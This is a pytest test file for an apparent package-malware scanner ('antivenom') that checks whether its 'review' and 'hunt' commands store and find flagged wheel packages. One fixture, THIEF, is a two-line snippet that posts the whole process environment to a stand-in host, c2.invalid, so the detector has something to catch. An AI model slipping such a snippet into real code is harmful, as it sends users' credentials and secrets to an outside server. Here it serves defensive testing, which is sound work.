"""`antivenom review --lake` keeps what `antivenom hunt` finds."""

from __future__ import annotations

from pathlib import Path

import pytest

from antivenom.cli import main
from antivenom.lab.lake import Lake
from tests.builders import archives

THIEF = 'import os, requests\nrequests.post("https://c2.invalid/", data=dict(os.environ))\n'


def wheel(name: str, text: str) -> str:
    path = Path(f"{name}-1.0-py3-none-any.whl")
    path.write_bytes(archives.wheel({f"{name}/__init__.py": text}, name=name))
    return str(path)


def test_reviews_are_kept_once_and_found(capsys: pytest.CaptureFixture[str]) -> None:
    targets = [wheel("good", "answer = 42\n"), wheel("thief", THIEF), "gone.whl"]
    for _ in range(2):
        assert main(["review", *targets, "--lake", "lake"]) in {1, 2}
    assert len(Lake("lake").batches()) == 1
    capsys.readouterr()
    assert main(["hunt", "--lake", "lake", "--match", "secrets.env -> net.send"]) == 0
    said = capsys.readouterr()
    assert "pkg:pypi/thief@1.0" in said.out
    assert "c2.invalid" in said.out
    assert "1 of 2 reviews fit" in said.err


def test_the_lake_of_the_settings(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ANTIVENOM_LAKE", "memory://settings")
    assert main(["review", wheel("good", "answer = 42\n")]) == 0
    capsys.readouterr()
    assert main(["hunt", "--sql", "SELECT filename FROM reviews", "--format=jsonl"]) == 0
    assert '{"filename": "good-1.0-py3-none-any.whl"}' in capsys.readouterr().out


def test_a_lake_that_cannot_be_written_is_said(capsys: pytest.CaptureFixture[str]) -> None:
    Path("lake").write_text("a file")
    assert main(["review", wheel("good", "answer = 42\n"), "--lake", "lake"]) == 2
    assert "could not be kept" in capsys.readouterr().err
